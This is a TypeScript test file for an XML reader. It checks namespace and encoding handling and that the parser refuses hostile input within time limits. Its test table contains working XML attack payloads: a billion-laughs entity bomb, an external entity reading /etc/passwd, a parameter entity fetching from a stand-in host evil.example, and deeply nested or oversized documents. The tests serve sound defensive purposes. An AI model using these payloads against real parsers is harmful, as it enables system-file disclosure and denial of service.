import { expect, test } from 'vitest';
import { find, readXml } from './read-xml.ts';

const read = (text: string | Buffer) => readXml(Buffer.from(text), 'x.xml');

test('elements are known by local name and namespace, whatever their prefix', () => {
  const root = read(
    '<?xml version="1.0"?><i:Invoice xmlns:i="urn:i" xmlns="urn:d"><ID a="1">7 &amp; <![CDATA[<8>]]></ID></i:Invoice>',
  );
  expect(root).toMatchObject({ name: 'Invoice', namespace: 'urn:i' });
  expect(find(root, 'ID')).toMatchObject({ namespace: 'urn:d', text: '7 & <8>', attributes: { a: '1' } });
});

test('other encodings are read by their mark or declaration', () => {
  expect(read(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>', 'latin1')).text).toBe('é');
  expect(read(Buffer.from('\ufeff<a>é</a>', 'utf16le')).text).toBe('é');
});

const LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>';

test.each([
  ['billion laughs', LAUGHS, 'xml_doctype'],
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'xml_doctype'],
  [
    'a parameter entity',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>',
    'xml_doctype',
  ],
  ['a doctype after a comment', `<!-- ${'x'.repeat(70_000)} --><!DOCTYPE a><a/>`, 'xml_doctype'],
  ['an entity of its own', '<a>&x;</a>', 'xml_unreadable'],
  ['no end', '<a><b>', 'xml_unreadable'],
  ['two roots', '<a/><b/>', 'xml_unreadable'],
  ['no element', '   ', 'xml_unreadable'],
  ['65 levels', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, 'xml_beyond_limits'],
  [
    '257 attributes',
    `<a ${Array.from({ length: 257 }, (_, n) => `a${n}="1"`).join(' ')}/>`,
    'xml_beyond_limits',
  ],
  ['a long name', `<${'a'.repeat(1025)}/>`, 'xml_beyond_limits'],
  ['a long text', `<a>${'a'.repeat(4 * 1024 * 1024 + 1)}</a>`, 'xml_beyond_limits'],
])('%s is refused', (_, text, code) => {
  const started = performance.now();
  expect(() => read(text)).toThrow(new RegExp(`^${code} `));
  expect(performance.now() - started).toBeLessThan(2000);
});

test('64 levels and 256 attributes are fine', () => {
  const attributes = Array.from({ length: 256 }, (_, n) => `a${n}="1"`).join(' ');
  expect(read(`${'<a>'.repeat(63)}<b ${attributes}/>${'</a>'.repeat(63)}`).name).toBe('a');
});

test('200,000 levels are refused as fast as 65', () => {
  const started = performance.now();
  expect(() => read('<a>'.repeat(200_000))).toThrow(/xml_beyond_limits/);
  expect(performance.now() - started).toBeLessThan(200);
});
